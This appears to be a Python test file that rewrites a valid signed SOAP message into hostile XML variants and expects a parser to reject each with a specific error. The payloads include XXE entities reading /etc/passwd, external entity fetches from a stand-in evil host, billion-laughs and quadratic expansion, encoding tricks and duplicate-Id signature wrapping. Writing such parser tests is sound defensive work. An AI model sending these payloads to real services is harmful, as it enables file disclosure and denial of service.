"""Attacks on the parser: a good message as other bytes."""

from __future__ import annotations

from collections.abc import Callable

from tests.wss_kit import (
    WSU,
)


def _doctype(inside: str, use: str = "") -> Callable[[bytes], bytes]:
    """A document type in front, and its entity in a value."""

    def rewrite(data: bytes) -> bytes:
        return f"<!DOCTYPE Envelope {inside}>".encode() + data.replace(b"H99.24-260703-0007", use.encode() or b"1", 1)

    return rewrite


def _encoded(encoding: str, *, declared: str = "") -> Callable[[bytes], bytes]:
    def rewrite(data: bytes) -> bytes:
        told = f'<?xml version="1.0" encoding="{declared}"?>' if declared else ""
        return (told + data.decode()).encode(encoding, "xmlcharrefreplace")

    return rewrite


_LAUGHS = (
    '[<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefgh", "bcdefghi", strict=True))
    + "]"
)

REWRITTEN: list[tuple[str, str, Callable[[bytes], bytes]]] = [
    ("xml: a DTD", "xml_dtd", _doctype("[]")),
    ("xml: a DTD after a comment", "xml_dtd", lambda data: b"<!-- x -->\n<!DOCTYPE Envelope>" + data),
    ("xml: a DTD after a declaration", "xml_dtd", lambda data: b'<?xml version="1.0"?> <!DOCTYPE Envelope>' + data),
    ("xml: an external DTD", "xml_dtd", _doctype('SYSTEM "http://evil.example.invalid/x.dtd"')),
    ("xml: a file as entity", "xml_dtd", _doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]', "&x;")),
    ("xml: an address as entity", "xml_dtd", _doctype('[<!ENTITY x SYSTEM "http://evil.example.invalid/">]', "&x;")),
    ("xml: a parameter entity", "xml_dtd", _doctype('[<!ENTITY % x SYSTEM "http://evil.example.invalid/"> %x;]')),
    ("xml: a billion laughs", "xml_dtd", _doctype(_LAUGHS, "&i;")),
    ("xml: quadratic blow-up", "xml_dtd", _doctype(f'[<!ENTITY x "{"x" * 50_000}">]', "&x;" * 1000)),
    ("xml: an attribute from nowhere", "xml_dtd", _doctype('[<!ATTLIST Body wsu:Id CDATA "body">]')),
    ("xml: an entity without a DTD", "malformed_xml", lambda data: data.replace(b"150000", b"&x;")),
    ("xml: UTF-16", "xml_encoding", _encoded("utf-16", declared="utf-16")),
    ("xml: UTF-16, big end first", "xml_encoding", _encoded("utf-16-be")),
    ("xml: UTF-16, little end first", "xml_encoding", _encoded("utf-16-le")),
    ("xml: UTF-32", "xml_encoding", _encoded("utf-32", declared="utf-32")),
    ("xml: UTF-7 declared", "xml_encoding", _encoded("ascii", declared="UTF-7")),
    ("xml: UTF-7", "malformed_xml", lambda data: data.replace(b"<", b"+ADw-")),
    ("xml: Latin-1 declared", "xml_encoding", _encoded("latin-1", declared="iso-8859-1")),
    ("xml: Windows-1258 declared", "xml_encoding", _encoded("ascii", declared="windows-1258")),
    ("xml: EBCDIC", "xml_encoding", _encoded("cp037", declared="cp037")),
    ("xml: not UTF-8", "xml_encoding", lambda data: data.replace(b"150000", b"15\xff000")),
    ("xml: overlong UTF-8", "xml_encoding", lambda data: data.replace(b"150000", b"15\xc0\xaf00")),
    ("xml: half a character", "xml_encoding", lambda data: data + b"\xe1\xbb"),
    ("xml: a NUL", "xml_encoding", lambda data: data.replace(b"150000", b"15\x00000")),
    ("xml: a control character", "malformed_xml", lambda data: data.replace(b"150000", b"15\x01000")),
    ("xml: a reference to NUL", "malformed_xml", lambda data: data.replace(b"150000", b"15&#0;000")),
    ("xml: a reference to half a character", "malformed_xml", lambda data: data.replace(b"150000", b"&#xD800;")),
    ("xml: version 1.1", "malformed_xml", lambda data: b'<?xml version="1.1"?>' + data),
    ("xml: version 2", "malformed_xml", lambda data: b"<?xml version='2.0'?>" + data),
    ("xml: a declaration that is none", "malformed_xml", lambda data: b"<?xml ?>" + data),
    ("xml: a style sheet", "xml_instruction", lambda data: b'<?xml-stylesheet href="x.xsl"?>' + data),
    ("xml: text after the end", "malformed_xml", lambda data: data + b"x"),
    ("xml: two documents", "malformed_xml", lambda data: data + data),
    ("xml: half a document", "malformed_xml", lambda data: data[: len(data) // 2]),
    ("xml: nothing", "malformed_xml", lambda data: b""),
    ("xml: white space", "malformed_xml", lambda data: b"  \r\n"),
    ("xml: JSON", "malformed_xml", lambda data: b'{"a": 1}'),
    ("xml: HTML", "xml_dtd", lambda data: b"<!DOCTYPE html><html></html>"),
    ("xml: a page", "wrong_envelope", lambda data: b"<html></html>"),
    ("xml: a prefix of nobody", "malformed_xml", lambda data: data.replace(b"<h:LePhi>", b"<z:LePhi/><h:LePhi>")),
    ("xml: an attribute twice", "malformed_xml", lambda data: data.replace(b"<h:LePhi>", b'<h:LePhi a="1" a="2">')),
    (
        "xml: an Id twice, by two prefixes",
        "malformed_xml",
        lambda data: data.replace(b'wsu:Id="body"', b'wsu:Id="body" xmlns:u="' + WSU.encode() + b'" u:Id="evil"'),
    ),
    (
        "xml: a namespace that is relative",
        "malformed_xml",
        lambda data: data.replace(b"<h:LePhi>", b'<h:LePhi xmlns="u"><x/>'),
    ),
    ("xml: 11 MB", "xml_too_large", lambda data: data.replace(b"150000", b"1" * (11 << 20))),
    ("xml: 200,001 tags", "xml_too_large", lambda data: data.replace(b"150000", b"<a/>" * 200_001)),
    ("xml: a hundred thousand attributes", "xml_too_large", lambda data: data.replace(b"150000", b"=" * 100_001)),
    (
        "meaning: another prefix for the whole",
        "bad_signature",
        lambda data: data.replace(b"urn:tinh:hoso", b"urn:tinh:evil"),
    ),
]
